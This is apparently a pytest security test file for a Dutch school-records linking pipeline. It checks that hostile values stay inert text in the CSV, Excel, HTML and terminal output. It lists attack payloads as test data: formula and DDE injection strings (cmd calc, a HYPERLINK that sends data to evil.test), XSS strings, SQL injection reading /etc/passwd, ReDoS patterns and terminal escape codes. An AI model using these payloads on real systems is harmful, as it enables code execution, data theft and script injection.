"""What a value can do: formulas, scripts, slow patterns, SQL, signs for the terminal. A value stays a value.

The numbers in the names are those of the list of thirty-four attacks in README.md beside this file.
"""

from __future__ import annotations

import csv
import re
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Final

import openpyxl
import pytest

from etl.config import build_config
from etl.pipeline import RunRequest, run_job
from etl.report.html import write_html
from tests.attacks.programs import quick
from tests.defects.school import NOW, Files, control_table, number, written

FORMULAS: Final = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?"&A1,"Klik")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
    'x"\r\n=1+1',
    '";=1+1;"',
    "=cmd|' /C calc'!'A1'",
    '=DDE("cmd";"/C calc";"x")',
)
SCRIPTS: Final = (
    "<script>window.owned=1</script>",
    "</title><script>window.owned=1</script>",
    '"><img src=x onerror=window.owned=1>',
    "<svg/onload=window.owned=1>",
    "javascript:window.owned=1",
    "{{7*7777777}}{% raw %}",
    "</script><script>window.owned=1</script>",
    "--><script>window.owned=1</script>",
    "<a href='http://evil.test'>x</a>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
)
SQL: Final = (
    "'; drop table raw_legacy; --",
    "x' or '1'='1",
    "\"; attach '/etc/passwd' as p; --",
    "read_csv('/etc/passwd')",
    "${HOME} $(id) `id`",
    "%s %n {0} {stamnr}",
)


@pytest.fixture
def files(tmp_path: Path) -> Files:
    return Files(tmp_path)


def run_whole(files: Files) -> Path:
    """Run with the workbook on what the tables hold, and return the run."""
    for side in ("magister", "legacy"):
        (files.folder / f"{side}.csv").write_bytes(written(getattr(files, side)))
    request = RunRequest(
        files.folder / "magister.csv",
        files.folder / "legacy.csv",
        files.folder / "runs",
        NOW,
        config=build_config({"school": {"brin": "99XX"}}),
        with_suites=False,
    )
    return run_job(request).run_folder


def put_in_names(files: Files, values: tuple[str, ...]) -> None:
    """Give pupils these values in each column that is no key, linked and held ones alike."""
    for place, value in enumerate(values, start=1):
        for column in (1, 2, 3, 4, 5):
            files.legacy[place][column] = value if column < 5 else f"{value}{place}"
    # The half of them are questions: their account stands twice.
    for place in range(1, len(values) + 1, 2):
        files.legacy.append([*files.legacy[place][:1], "Ander", "Mens", "9Z", "havo", f"x{place}"])


def test_01_no_cell_of_any_csv_runs(files: Files) -> None:
    put_in_names(files, FORMULAS)
    run = run_whole(files)
    seen = 0
    for path in run.rglob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as opened:
            for row in csv.reader(opened, delimiter=";"):
                seen += len(row)
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), path.name
                    assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(("=", "+", "@", "＝")), path.name
    assert seen > 300


@pytest.mark.parametrize("column", [0, 1, 2, 3])
def test_01_a_number_or_id_that_is_a_formula_is_held(files: Files, column: int) -> None:
    for place, formula in enumerate(("=1+1", "+104202", "@104203", "-104204", "=104205+0"), start=1):
        files.magister[place][column] = formula
    outcome = files.run()
    outcome.all_linked(but=[1, 2, 3, 4, 5])
    assert {outcome.status("magister", place)[0] for place in range(1, 6)} == {"quarantined"}


def test_02_every_cell_of_the_workbook_is_text_and_nothing_in_it_leads_outside(files: Files) -> None:
    put_in_names(files, (*FORMULAS, "a" * 32_000, "x\x01y".replace("\x01", "\u0001")))
    run = run_whole(files)
    path = run / "report" / "report.xlsx"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert "externalLink" not in name
            content = archive.read(name)
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", content), name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in content, name
    book = openpyxl.load_workbook(path)
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert any("HYPERLINK" in str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)


class Page(HTMLParser):
    """Collects what a page would run or fetch."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attributes}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read_page(path: Path) -> Page:
    page = Page()
    page.feed(path.read_text("utf-8"))
    return page


def test_03_a_script_in_a_name_is_shown_as_text(files: Files) -> None:
    put_in_names(files, tuple("Noor" for _ in SCRIPTS))
    clean = read_page(run_whole(files) / "report" / "report.html")
    files = Files(files.folder)
    put_in_names(files, SCRIPTS)
    page = read_page(run_whole(files) / "report" / "report.html")
    assert {tag for tag, _ in page.tags} <= {tag for tag, _ in clean.tags}
    assert [tag for tag, _ in page.tags].count("script") == [tag for tag, _ in clean.tags].count("script")
    for _, attributes in page.tags:
        assert not any(name.startswith("on") for name in attributes)
        assert not attributes.get("href", "").lower().startswith(("javascript:", "data:", "http"))
    assert "window.owned=1" in "".join(page.text)
    policies = [
        one["content"]
        for tag, one in page.tags
        if tag == "meta" and "content-security-policy" in str(one).lower()
    ]
    assert len(policies) == 1
    assert "default-src 'none'" in policies[0]
    assert "{{7*7777777}}" in "".join(page.text)
    assert str(7 * 7_777_777) not in "".join(page.text)


def test_03_a_script_in_a_heading_or_a_file_name_is_shown_as_text(files: Files) -> None:
    for place, row in enumerate(files.legacy):
        row.append("<img src=x onerror=window.owned=1>" if place == 0 else "x")
    files.names["legacy"] = "<img src=x onerror=window.owned=1>.csv"
    outcome = files.run()
    assert outcome.folder is not None
    page = read_page(outcome.folder / "report" / "report.html")
    assert "img" not in {tag for tag, _ in page.tags}


def test_04_the_report_fetches_nothing(files: Files) -> None:
    run = run_whole(files)
    for tag, attributes in read_page(run / "report" / "report.html").tags:
        assert tag not in {"iframe", "object", "embed", "base", "form"}
        for name in ("src", "href", "action", "data", "srcset", "poster", "background"):
            value = attributes.get(name, "")
            assert not re.match(r"(?i)\s*(https?:|//|ftp:|file:)", value), f"{tag} {name}"
        assert not (tag == "link" and "stylesheet" in attributes.get("rel", ""))
    text = (run / "report" / "report.html").read_text("utf-8")
    assert not re.search(r"(?i)@import|url\(\s*['\"]?(https?:|//)", text)


@pytest.mark.parametrize(
    "value",
    [
        "=" + '"' * 3_000,
        "'" * 30_000,
        " " * 30_000 + "x",
        "0" * 30_000 + "x",
        "1." * 15_000,
        "a," * 15_000,
        "van der " * 3_500,
        "{" * 30_000,
        "1,2E+" * 6_000,
        "Ã©" * 15_000,
        "e\u0301" * 15_000,
        "\u200b" * 30_000,
    ],
    ids=lambda value: repr(value[:6]),
)
def test_08_no_value_takes_long(files: Files, value: str) -> None:
    for place in range(1, 6):
        files.magister[place][place % 4] = value
        files.legacy[place] = [value, value, value, value, value, f"n{place}"]
    start = time.perf_counter()
    outcome = files.run(legacy={"stamnr_pattern": "(?:a|a)*([0-9]+)"})
    assert time.perf_counter() - start < 20
    assert set(outcome.links.items()) <= {(place, place) for place in range(1, 31)}


def test_08_a_pattern_of_the_settings_that_would_never_end_is_bounded(files: Files) -> None:
    for row in files.legacy[1:]:
        row[0] = "a" * 60 + "!"
    start = time.perf_counter()
    files.run(legacy={"stamnr_pattern": "(?:a+)+([0-9]+)"}, limits={"minimum_overlap": 0})
    assert time.perf_counter() - start < 20


def test_12_a_debug_variable_shows_no_value(tmp_path: Path) -> None:
    files = Files(tmp_path)
    files.legacy[3][1:3] = ["Quirijntje", "Zwaluwstaart"]
    files.magister[3][2] = "{DEADBEEF-0E4F-4A5B-8C6D-000000000003}"
    for side in ("magister", "legacy"):
        (tmp_path / f"{side}.csv").write_bytes(written(getattr(files, side)))
    arguments = [
        "run",
        "--magister",
        str(tmp_path / "magister.csv"),
        "--legacy",
        str(tmp_path / "legacy.csv"),
    ]
    for out in (tmp_path / "runs", tmp_path / "legacy.csv"):
        answer = quick(
            *arguments,
            "--out",
            str(out),
            KOPPELCHECK_DEBUG="1",
            DEBUG="1",
            LOGLEVEL="DEBUG",
            PYTHONVERBOSE="",
            POLARS_VERBOSE="1",
        )
        told = answer.out + answer.err
        for value in ("Quirijntje", "Zwaluwstaart", "DEADBEEF", "51003@", number(3)):
            assert value.casefold() not in told.casefold(), "a value stands on the screen"


@pytest.mark.parametrize("heading", ["BSN", "bsn-nr.", "nr", "", "Burger Service Nummer", "PGN", "ID2"])
@pytest.mark.parametrize("side", ["magister", "legacy"])
def test_13_a_national_number_comes_nowhere(files: Files, side: str, heading: str) -> None:
    numbers = national_numbers(30)
    for place, row in enumerate(getattr(files, side)):
        row.append(heading if place == 0 else numbers[place - 1])
    outcome = files.run()
    assert outcome.refused == "INTAKE-NATIONAL-NUMBER"
    assert not any(one in repr(outcome.fields) for one in numbers)


def national_numbers(count: int) -> list[str]:
    """Return numbers that pass the eleven-test; they are test numbers, of nobody."""
    found = []
    for start in range(99_900_000, 99_990_000, 7):
        digits = [int(sign) for sign in str(start)]
        rest = sum((9 - place) * digit for place, digit in enumerate(digits)) % 11
        if rest < 10:
            found.append(f"{start}{rest}")
        if len(found) == count:
            break
    return found


def test_16_sql_in_values_headings_and_file_names_is_text(files: Files) -> None:
    put_in_names(files, SQL)
    for place, row in enumerate(files.legacy):
        row.append("x'); drop table raw_legacy; --" if place == 0 else "y")
    files.names = {"legacy": "a'; drop table x; --.csv", "magister": 'b"; select 1; --.csv'}
    outcome = files.run()
    assert outcome.refused is None
    assert len(outcome.statuses) == len(files.magister) + len(files.legacy) - 2
    assert outcome.folder is not None
    text = (outcome.folder / "import" / "numo_import.csv").read_text("utf-8-sig")
    assert "x' or '1'='1" in text


def test_34_signs_for_the_terminal_do_not_reach_it(tmp_path: Path) -> None:
    files = Files(tmp_path)
    for place, sign in enumerate(("\x1b[31m", "\x1b]0;x\x07", "\x9b31m", "\u202e", "\x7f", "\x08"), start=1):
        files.legacy[place][1] = sign + "Noor"
    for row in files.legacy:
        row.append("\x1b[2Jnotitie" if row is files.legacy[0] else "x")
    files.names["legacy"] = "l\x1b[31m\u202e.csv"
    (tmp_path / "magister.csv").write_bytes(written(files.magister))
    (tmp_path / files.names["legacy"]).write_bytes(written(files.legacy))
    for command in (
        ["run", *files_of(files), "--out", str(tmp_path / "runs")],
        ["check", str(tmp_path / files.names["legacy"]), str(tmp_path / "magister.csv")],
        ["check", str(tmp_path / files.names["legacy"]), "--json"],
    ):
        answer = quick(*command)
        assert answer.code in {0, 10, 20}
        assert not re.search(
            r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", answer.out + answer.err
        )


def files_of(files: Files) -> list[str]:
    names = {
        side: str(files.folder / files.names.get(side, f"{side}.csv")) for side in ("magister", "legacy")
    }
    return ["--magister", names["magister"], "--legacy", names["legacy"]]


def test_the_report_in_the_other_language_is_as_safe(files: Files, tmp_path: Path) -> None:
    put_in_names(files, SCRIPTS)
    outcome = files.run()
    path = tmp_path / "en.html"
    write_html(outcome.report, path, "en")
    assert "<script>window" not in path.read_text("utf-8")
    assert "window.owned=1" in "".join(read_page(path).text)


def test_the_control_list_is_no_other_road(files: Files) -> None:
    files.control = control_table()
    for place, value in enumerate((*FORMULAS, *SCRIPTS, *SQL)[:30], start=1):
        files.control[place][2] = value
        files.legacy[place][2] = value
    outcome = files.run()
    assert outcome.folder is not None
    assert "<script>window" not in (outcome.folder / "report" / "report.html").read_text("utf-8")
